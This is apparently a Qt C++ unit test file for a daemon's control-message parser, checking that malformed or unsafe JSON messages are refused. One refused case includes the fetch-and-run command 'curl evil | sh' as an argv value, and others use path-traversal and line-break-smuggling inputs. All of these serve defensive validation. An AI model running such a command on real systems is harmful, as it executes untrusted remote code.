        << ControlMessage(DeviceState { 1500, false, false, false, QString() });
    QTest::newRow("device.state usb present")
        << ControlMessage(DeviceState { 1500, false, false, true, QStringLiteral("3-2") });
    QTest::newRow("device.state usb unplugged")
        << ControlMessage(DeviceState { 1500, false, false, true, QString() });
}

void TestControlMessage::runMessagesRoundTrip()
{
    QFETCH(ControlMessage, message);
    auto parsed = parseControlMessage(serializeControlMessage(message));
    QVERIFY2(parsed.ok(), qPrintable(parsed.ok() ? QString() : parsed.error().message));
    QVERIFY(same(*parsed, message));
}

void TestControlMessage::runMessagesRefused_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("mentions");
    QTest::newRow("counters below zero")
        << QByteArray(R"({"type":"device.counters","run_id":1,"binding_id":2,"frames_to_run":-1,)"
                      R"("frames_from_run":0,"dropped_to_run":0,"dropped_from_run":0})")
        << QStringLiteral("frames_to_run");
    QTest::newRow("counters past exact")
        << QByteArray(R"({"type":"device.counters","run_id":1,"binding_id":2,"frames_to_run":0,)"
                      R"("frames_from_run":0,"dropped_to_run":1e300,"dropped_from_run":0})")
        << QStringLiteral("dropped_to_run");
    QTest::newRow("counters of an unknown unit") << QByteArray(
        R"({"type":"device.counters","run_id":1,"binding_id":2,"frames_to_run":0,)"
        R"("frames_from_run":0,"dropped_to_run":0,"dropped_from_run":0,"unit":"bytes"})")
                                                 << QStringLiteral("unit");
    QTest::newRow("counters without a binding")
        << QByteArray(R"({"type":"device.counters","run_id":1,"frames_to_run":0,)"
                      R"("frames_from_run":0,"dropped_to_run":0,"dropped_from_run":0})")
        << QStringLiteral("binding_id");
    QTest::newRow("start without argv")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"runs/1"})")
        << QStringLiteral("argv");
    QTest::newRow("start with empty argv")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","argv":[]})")
        << QStringLiteral("argv");
    QTest::newRow("start argv not strings")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","argv":[1]})")
        << QStringLiteral("argv");
    QTest::newRow("start env bad name") << QByteArray(
        R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"env":{"A-B":"1"}})")
                                        << QStringLiteral("A-B");
    QTest::newRow("start env name ending in a line break") << QByteArray(
        R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"env":{"PATH\n":"1"}})")
                                                           << QStringLiteral("env");
    QTest::newRow("device target ending in a line break")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"devices":)"
                      R"([{"binding_id":1,"name":"fwd-a","kind":"l2","target":"eth1\n"}]})")
        << QStringLiteral("target");
    QTest::newRow("start env multi-line")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"env":{"A":"1
2"}})") << QStringLiteral("env");
    QTest::newRow("a harness install with a command of the hub's") << QByteArray(
        R"({"type":"run.start","run_id":1,"workdir":"w","harness":"claude",)"
        R"("argv":["sh","-c","curl evil | sh"]})") << QStringLiteral("carries no \"argv\"");
    QTest::newRow("a harness that is no name")
        << QByteArray(R"({"type":"run.start","run_id":1,"workdir":"w","harness":"../bin/sh"})")
        << QStringLiteral("not a harness name");
    QTest::newRow("device.released without a binding")
        << QByteArray(R"({"type":"device.released","run_id":1,"reason":"x"})")
        << QStringLiteral("binding_id");
    QTest::newRow("device.released naming binding 0")
        << QByteArray(R"({"type":"device.released","run_id":1,"binding_id":0})")
        << QStringLiteral("binding_id");
    QTest::newRow("device.released with a reason of no text")
        << QByteArray(R"({"type":"device.released","run_id":1,"binding_id":2,"reason":7})")
        << QStringLiteral("reason");
    QTest::newRow("capabilities that are no object")
        << QByteArray(R"({"type":"capabilities","capabilities":[1]})")
        << QStringLiteral("capabilities");
    QTest::newRow("start run id 0")
        << QByteArray(R"({"type":"run.start","run_id":0,"workdir":"w","argv":["x"]})")
        << QStringLiteral("run_id");
    QTest::newRow("start without workdir")
        << QByteArray(R"({"type":"run.start","run_id":1,"argv":["x"]})")
        << QStringLiteral("workdir");
    const QByteArray startHead
        = R"({"type":"run.start","run_id":1,"workdir":"w","argv":["x"],"devices":)";
    QTest::newRow("device list not an array") << startHead + R"({}})" << QStringLiteral("devices");
    QTest::newRow("device of an unknown kind")
        << startHead + R"([{"binding_id":1,"name":"fwd-a","kind":"serial"}]})"
        << QStringLiteral("kind");
    QTest::newRow("device target not an interface")
        << startHead + R"([{"binding_id":1,"name":"fwd-a","kind":"l2","target":"../../x"}]})"
        << QStringLiteral("target");
    QTest::newRow("device target too long") << startHead
            + R"([{"binding_id":1,"name":"fwd-a","kind":"l2","target":"abcdefghijklmnopq"}]})"
                                            << QStringLiteral("target");
    QTest::newRow("device name with a comma")
        << startHead + R"([{"binding_id":1,"name":"a,b=c","kind":"l2","target":"fwd0"}]})"
        << QStringLiteral("name");
    QTest::newRow("device mtu too small")
        << startHead + R"([{"binding_id":1,"name":"fwd-a","kind":"l2","target":"fwd0","mtu":10}]})"
        << QStringLiteral("mtu");
    QTest::newRow("device without binding")
        << startHead + R"([{"name":"fwd-a","kind":"l2","target":"fwd0"}]})"
        << QStringLiteral("binding_id");
    QByteArray nine = startHead + "[";
    for (int i = 1; i <= 9; ++i)
        nine += QByteArray(i > 1 ? "," : "") + R"({"binding_id":)" + QByteArray::number(i)
            + R"(,"name":"fwd-a","kind":"l2","target":"fwd0"})";
    QTest::newRow("too many devices") << nine + "]}" << QStringLiteral("devices");
    QTest::newRow("device state mtu too small")
        << QByteArray(R"({"type":"device.state","mtu":20,"up":true})") << QStringLiteral("mtu");
    QTest::newRow("device state mtu beyond loopback's")
        << QByteArray(R"({"type":"device.state","mtu":65537,"up":true})") << QStringLiteral("mtu");
    QTest::newRow("device state mtu not a number")
        << QByteArray(R"({"type":"device.state","mtu":"9000","up":true})") << QStringLiteral("mtu");
    QTest::newRow("device state up not a boolean")
        << QByteArray(R"({"type":"device.state","mtu":1500,"up":"yes"})") << QStringLiteral("up");
    QTest::newRow("ack negative offset")
        << QByteArray(R"({"type":"run.ack","run_id":1,"offset":-1})") << QStringLiteral("offset");
    QTest::newRow("finished with neither code nor error")
        << QByteArray(R"({"type":"run.finished","run_id":1,"end_offset":0})")
        << QStringLiteral("exit code");
    QTest::newRow("finished code out of range")
        << QByteArray(R"({"type":"run.finished","run_id":1,"exit_code":1000,"end_offset":0})")
        << QStringLiteral("exit_code");
    QTest::newRow("held without ids")
        << QByteArray(R"({"type":"runs.held"})") << QStringLiteral("run_ids");
    QTest::newRow("held id 0") << QByteArray(R"({"type":"runs.held","run_ids":[1,0]})")
                               << QStringLiteral("run_ids");
    QTest::newRow("held fraction")
        << QByteArray(R"({"type":"runs.held","run_ids":[1.5]})") << QStringLiteral("run_ids");
    QTest::newRow("held string") << QByteArray(R"({"type":"runs.held","run_ids":["7"]})")
                                 << QStringLiteral("run_ids");
    QTest::newRow("held too large")
        << QByteArray(R"({"type":"runs.held","run_ids":[10000000000000000]})")
        << QStringLiteral("run_ids");
    QTest::newRow("held devices not a list")
        << QByteArray(R"({"type":"runs.held","run_ids":[1],"kept_devices":{"run_id":1}})")
        << QStringLiteral("kept_devices");
    QTest::newRow("held device without a binding")
        << QByteArray(R"({"type":"runs.held","run_ids":[1],"kept_devices":[{"run_id":1}]})")
        << QStringLiteral("kept_devices");
    QTest::newRow("held device that is a number")
        << QByteArray(R"({"type":"runs.held","run_ids":[1],"kept_devices":[7]})")
        << QStringLiteral("kept_devices");
}

void TestControlMessage::runMessagesRefused()
{
    QFETCH(QByteArray, json);
    QFETCH(QString, mentions);
    auto parsed = parseControlMessage(json);
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().code, QStringLiteral("protocol_error"));
    QVERIFY2(parsed.error().message.contains(mentions), qPrintable(parsed.error().message));
}

void TestControlMessage::anUpgradeRequestCarriesItsTargetAlone()
{
    // A hub that tries to set the channel or allow a downgrade is read for
    // its target only; the rest is named, for the daemon's log, and dropped.
    const Result<ControlMessage> parsed = parseControlMessage(
        json(QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.request") },
            { QStringLiteral("target"), QStringLiteral("edge:6e750e9") },
            { QStringLiteral("channel"), QStringLiteral("edge") },
            { QStringLiteral("allow_downgrade"), true } }));
    QVERIFY2(parsed.ok(), qPrintable(parsed.ok() ? QString() : parsed.error().message));
    const auto *request = std::get_if<UpgradeRequest>(&*parsed);
    QVERIFY(request);
    QCOMPARE(request->target, QStringLiteral("edge:6e750e9"));
    QStringList ignored = request->ignoredFields;
    ignored.sort();
    QCOMPARE(
        ignored, (QStringList { QStringLiteral("allow_downgrade"), QStringLiteral("channel") }));
    // And it is never sent on.
    const QJsonObject wire = QJsonDocument::fromJson(serializeControlMessage(*request)).object();
    QCOMPARE(wire.keys(), (QStringList { QStringLiteral("target"), QStringLiteral("type") }));
}

QTEST_GUILESS_MAIN(TestControlMessage)
#include "tst_controlmessage.moc"
